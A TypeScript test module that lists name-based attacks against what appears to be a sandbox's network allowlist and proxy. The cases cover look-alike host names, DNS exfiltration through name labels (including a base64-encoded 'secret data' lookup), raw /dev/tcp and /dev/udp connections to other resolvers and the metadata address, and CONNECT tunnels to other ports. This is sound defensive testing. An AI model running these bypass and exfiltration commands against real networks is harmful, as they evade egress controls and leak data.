/** Attacks by names: those that only look like allowed ones, those that carry data out, other resolvers, other ports. */
import type { Attack } from './attack.ts';
import { outsideAddress } from '../network.ts';

/** names that lead to servers although the profile allows none of them */
export const unlistedNames = [
  ...[
    'other.example',
    'doh.example',
    'wild.example',
    'evilwild.example',
    'xwild.example',
    'x.wild.example.other.example',
    'sub.web.example',
  ],
  ...['web.example.other.example', 'webexample', 'blocked.wild.example', 'x.blocked.wild.example', 'xn--wb-1ia.example'],
];
const lookAlikes = [
  ...unlistedNames.filter((name) => !name.startsWith('doh')),
  ...[
    'web.example.other.example',
    'wéb.example',
    'web。example.other.example',
    'web.example@other.example',
    'web.example%00.other.example',
  ],
  ...['BLOCKED.WILD.EXAMPLE', 'blocked.wild.example.', 'x.wıld.example'],
];

const port = (number: string): readonly string[] => [
  `say 127.0.0.1 3128 "CONNECT web.example:${number} HTTP/1.1\\r\\nHost: web.example:${number}\\r\\n\\r\\n" | grep -a 'HTTP/1.1 200' && through`,
];

export const nameAttacks: readonly Attack[] = [
  {
    name: 'an allowed host by its name, in any spelling',
    needs: 'curl',
    must: 'work',
    tries: [
      'http://web.example',
      'https://web.example',
      'http://WEB.Example',
      'http://x.wild.example',
      'https://a.b.wild.example',
      'http://X.Wild.EXAMPLE',
    ].flatMap((origin) => [`direct ${origin}/$M`, `proxied ${origin}/$M`]),
  },
  {
    name: 'an allowed host, in bash’s own words and without a proxy',
    must: 'work',
    tries: [
      'say web.example 80 "GET /$M HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: close\\r\\n\\r\\n"',
      'say x.wild.example 80 "GET /$M HTTP/1.1\\r\\nHost: x.wild.example\\r\\nConnection: close\\r\\n\\r\\n"',
      'say 127.0.0.1 3128 "GET http://web.example/$M HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: close\\r\\n\\r\\n"',
    ],
  },
  {
    name: 'a host that is not listed, past the proxy and through it',
    needs: 'curl',
    must: 'fail',
    tries: ['other.example', 'doh.example'].flatMap((host) => [
      `direct http://${host}/$M`,
      `direct https://${host}/dns-query/$M`,
      `proxied http://${host}/$M`,
      `proxied https://${host}/dns-query/$M`,
      `proxied -p http://${host}/$M`,
    ]),
  },
  {
    name: 'a host that looks like an allowed one',
    needs: 'curl',
    must: 'fail',
    tries: lookAlikes.flatMap((host) => [`direct 'http://${host}/'$M`, `proxied 'http://${host}/'$M`, `proxied 'https://${host}/'$M`]),
  },
  {
    name: 'data in the labels of a name is recorded and not resolved',
    must: 'fail',
    recorded: true,
    tries: ['$M.other.example', 'a.b.$M.web.example', '$M', '$M.internal', '$(echo secret data | base64).$M.example'].map(
      (name) => `getent hosts "${name}"`,
    ),
  },
  {
    name: 'data in the labels of a name that a wildcard allows, only looked up',
    must: 'fail',
    tries: ['getent hosts $M.wild.example', 'getent ahosts a.b.c.$M.wild.example'],
  },
  {
    name: 'other resolvers',
    must: 'fail',
    tries: ['192.0.2.53', outsideAddress, '169.254.169.254', '127.0.0.53', '127.0.0.11'].flatMap((server) => [
      `exec 5<>/dev/udp/${server}/53 && printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\7example\\0\\0\\1\\0\\1' >&5 && timeout 0.3 head -c 1 <&5 | grep -qa . && through`,
      `exec 5<>/dev/tcp/${server}/53 && through`,
      `exec 5<>/dev/tcp/${server}/853 && through`,
    ]),
  },
  {
    name: 'other kinds of questions to the resolver inside tell nothing',
    needs: 'perl',
    must: 'fail',
    tries: ['TXT 16', 'MX 15', 'NS 2', 'SRV 33', 'HTTPS 65', 'ANY 255', 'AXFR 252', 'NULL 10', 'A 1'].map((kind) => {
      const [, number] = kind.split(' ');
      const name = `join("", map { chr(length) . $_ } ("$ENV{M}", "other", "example"))`;
      return `export M; perl -MSocket -e 'socket(S,PF_INET,SOCK_DGRAM,0); $SIG{ALRM}=sub{exit}; alarm 2; send(S, pack("n6",7,256,1,0,0,0).${name}.pack("C n2",0,${number},1),0,sockaddr_in(53,inet_aton("127.0.0.1"))); recv(S,$r,4096,0); @h=unpack("n6",$r); print "$ENV{M} came through\\n" if $h[3]>0'`;
    }),
  },
  {
    name: 'a tunnel to another port of an allowed host',
    must: 'fail',
    tries: ['22', '25', '53', '853', '3128', '6379', '8443', '0', '65536', '-1', '443x', '0443443', '٤٤٣', ''].flatMap(port),
  },
  {
    name: 'another port of an allowed host, by its name',
    must: 'fail',
    tries: ['22', '25', '8443', '6379', '7007', '3128'].map((number) => `exec 5<>/dev/tcp/web.example/${number} && through`),
  },
  { name: 'a tunnel to an allowed port', must: 'work', tries: ['443', '80', '00443'].slice(0, 2).flatMap(port) },
];
